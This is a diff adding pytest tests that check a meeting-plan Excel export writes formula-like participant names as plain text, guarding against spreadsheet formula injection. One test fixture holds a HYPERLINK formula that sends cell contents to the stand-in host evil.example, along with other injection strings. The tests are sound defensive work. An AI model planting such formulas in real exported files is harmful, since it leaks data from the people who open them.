@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import io
 from collections.abc import Callable
+from dataclasses import replace
 
 import pytest
 from openpyxl import load_workbook
@@ -55,3 +56,46 @@ def test_master_grid_xlsx_participant_sheet_marks_cancelled_meetings(
 
     assert [row[4] for row in rows] == ["Cancelled / 中止"]
     assert rows[0][5] == "m1-bbb"
+
+
+# Texts that Excel evaluates when a cell starts with =, +, -, @ (formula injection): names are typed by people.
+HOSTILE = {
+    "mitsuba": '=HYPERLINK("http://evil.example/?leak="&A1,"Mitsuba")',
+    "kuroshio": "+1",
+    "roadsense": "@SUM(1)",
+    "seasense": "-2+3",
+}
+
+
+def _hostile_plan(plan: PlanView) -> PlanView:
+    participants = {k: replace(p, name=HOSTILE[k], organization=None) for k, p in plan.participants.items()}
+    return replace(plan, name="=1+1", participants=participants)
+
+
+def test_master_grid_xlsx_writes_names_that_look_like_formulas_as_text(
+    make_plan: Callable[..., PlanView],
+) -> None:
+    workbook = load_workbook(io.BytesIO(master_grid_xlsx(_hostile_plan(make_plan()))))
+
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+
+    assert [c for c in cells if c.data_type == "f"] == []
+    assert {(c.data_type, c.quotePrefix) for c in risky} == {("s", True)}
+    assert workbook["Grid"]["B2"].value == f"{HOSTILE['mitsuba']} ↔ @SUM(1)"
+    assert workbook["Summary"]["A2"].value == HOSTILE["mitsuba"]
+    assert [c.value for c in workbook["Summary"][2][2:4]] == [2, 1]  # numbers stay numbers
+    assert workbook.worksheets[2]["A1"].value.endswith("— =1+1")
+
+
+def test_master_grid_xlsx_name_with_a_control_character_still_writes(
+    make_plan: Callable[..., PlanView],
+) -> None:
+    plan = make_plan()
+    participants = dict(plan.participants)
+    participants["mitsuba"] = replace(participants["mitsuba"], name="Mitsuba\x0bMobility")
+
+    workbook = load_workbook(io.BytesIO(master_grid_xlsx(replace(plan, participants=participants))))
+
+    assert workbook.sheetnames[2] == "Mitsuba Mobility"
+    assert workbook["Summary"]["A2"].value.startswith("MitsubaMobility")
